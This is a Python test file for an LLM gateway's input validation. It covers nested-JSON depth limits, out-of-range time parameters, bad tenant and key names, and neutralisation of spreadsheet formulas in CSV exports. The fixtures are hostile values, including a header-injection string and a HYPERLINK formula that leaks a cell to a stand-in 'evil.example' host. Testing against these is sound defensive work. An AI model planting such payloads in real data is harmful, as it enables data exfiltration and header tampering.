"""Bad input that used to give 500s gets a clear 400 (or, in CSV, a neutralised cell): JSON nested
deeper than orjson re-serialises, out-of-range times on the admin and dashboard APIs, huge or
control-character names, and spreadsheet formulas in names written to CSV exports."""

from __future__ import annotations

import csv
import io

import aiohttp
import pytest

from gw_helpers import ADMIN_KEY, Stub, gateway, list_dep, stubs
from tokenomy.dashboard.api import csv_cell, to_csv
from tokenomy.gateway.validate import MAX_JSON_DEPTH

MSGS = [{"role": "user", "content": "hello"}]


def _cfg(stub: Stub) -> dict:
    return {"deployments": [list_dep("d1", stub.base_url, 3.0, 15.0)], "model_groups": {"m": {"deployments": ["d1"]}}}


def _nested(depth: int) -> bytes:
    """A chat body whose `x_nested` (a field passed through unchecked) nests `depth` arrays (the body object itself is one more level)."""
    inner = b"[" * depth + b"]" * depth
    return b'{"model": "m", "messages": [{"role": "user", "content": "hi"}], "x_nested": ' + inner + b"}"


@pytest.mark.parametrize("fast", [True, False])
@pytest.mark.parametrize("depth", [MAX_JSON_DEPTH + 1, 253, 254, 255, 600, 1022])
async def test_deeply_nested_json_is_a_400(depth, fast, data_dir, monkeypatch):
    monkeypatch.setenv("TOKENOMY_GATEWAY_FASTPATH", "1" if fast else "0")
    async with stubs(Stub()) as (s,), gateway(_cfg(s), data_dir) as g:
        key = g.key("t1")
        for path in ("/v1/chat/completions", "/admin/keys", "/v1/feedback"):
            st, _, body = await g.post(path, _nested(depth), ADMIN_KEY if path == "/admin/keys" else key)
            assert st == 400, (path, body)
            assert f"deeper than {MAX_JSON_DEPTH}" in body["error"]["message"]
        st, _, body = await g.post("/v1/chat/completions", _nested(MAX_JSON_DEPTH - 2), key)
        assert st == 200, body  # within the limit: served as before


@pytest.mark.parametrize("value", ["-1e18", "nan", "inf", "-inf", "1e400", "0001-01-01T00:00+14:00",
                                   "9999-12-31T23:59:59-14:00", "99999999d", "x" * 200_000])
async def test_out_of_range_times_are_400_on_the_admin_and_dashboard_apis(value, data_dir):
    async with stubs(Stub()) as (s,), gateway(_cfg(s), data_dir) as g:
        async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {ADMIN_KEY}"}) as http:
            for path in ("/admin/usage", "/dashboard/api/overview", "/dashboard/api/tenants"):
                for param in ("since", "until"):
                    async with http.get(g.url + path, params={param: value}) as r:
                        body = await r.json()
                        assert r.status == 400, (path, param, body)
                        # a 200,000-character URL is refused by the HTTP parser (request line too long)
                        assert body["error"]["param"] == (param if len(value) < 8000 else None)
                        assert len(body["error"]["message"]) < 300  # the value is not echoed whole


@pytest.mark.parametrize("params", [{"context": "1e20"}, {"context": "100000000000000000000"}, {"context": "0"},
                                    {"context": "9" * 5000}, {"slo_tpot_ms": "nan"}, {"slo_tpot_ms": "inf"},
                                    {"slo_tpot_ms": "1e308"}, {"slo_tpot_ms": "-1"}])
async def test_unit_cost_parameters_out_of_range_are_400(params, data_dir):
    async with stubs(Stub()) as (s,), gateway(_cfg(s), data_dir) as g:
        async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {ADMIN_KEY}"}) as http:
            async with http.get(g.url + "/dashboard/api/unit-cost", params={"model": "llama-3-8b", **params}) as r:
                assert r.status == 400, await r.text()
                assert (await r.json())["error"]["code"] == "invalid_value"


@pytest.mark.parametrize("field,value", [("tenant", "x" * 200_000), ("tenant", "a\r\nb"), ("tenant", "a\nX-Evil: 1"),
                                         ("tenant", "nul\x00byte"), ("tenant", "   "), ("tenant", "tab\there"),
                                         ("name", "k" * 201), ("name", "line\u2028sep")])
async def test_bad_key_and_tenant_names_are_400(field, value, data_dir):
    async with stubs(Stub()) as (s,), gateway(_cfg(s), data_dir) as g:
        body = {"tenant": value} if field == "tenant" else {"tenant": "ok", "name": value}
        st, _, resp = await g.post("/admin/keys", body, ADMIN_KEY)
        assert st == 400, resp
        assert resp["error"]["param"] == field
        assert value not in g.metering.list_tenants() if hasattr(g.metering, "list_tenants") else True


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


async def test_formulas_in_names_are_neutralised_in_csv_exports(data_dir):
    async with stubs(Stub()) as (s,), gateway(_cfg(s), data_dir) as g:
        for i, f in enumerate(FORMULAS[:4]):  # printable key names are valid (the CSV writer neutralises them)
            st, _, resp = await g.post("/admin/keys", {"tenant": f"acme{i}", "name": f}, ADMIN_KEY)
            assert st == 201, resp
        async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {ADMIN_KEY}"}) as http:
            async with http.get(g.url + "/dashboard/api/tenants",
                                params={"format": "csv", "table": "keys", "range": "all"}) as r:
                assert r.status == 200
                text = await r.text()
        rows = list(csv.DictReader(io.StringIO(text)))
        names = [row["name"] for row in rows]
        assert sorted(names) == sorted("'" + f for f in FORMULAS[:4])
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), cell


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_csv_cells_are_neutralised_and_numbers_kept():
    for f in FORMULAS:
        assert csv_cell(f) == "'" + f
    assert csv_cell("-1.25") == "-1.25" and csv_cell("+3") == "+3"  # signed numbers stay numbers
    assert csv_cell(-1.25) == -1.25 and csv_cell("acme") == "acme"
    assert csv_cell(" -1") == " -1"  # does not start with a trigger
    assert csv_cell({"k": "=1"}) == '{"k": "=1"}'
    rows = list(csv.reader(io.StringIO(to_csv([{"=bad header": "=1+1", "n": -3}]), newline="")))
    assert rows == [["'=bad header", "n"], ["'=1+1", "-3"]]
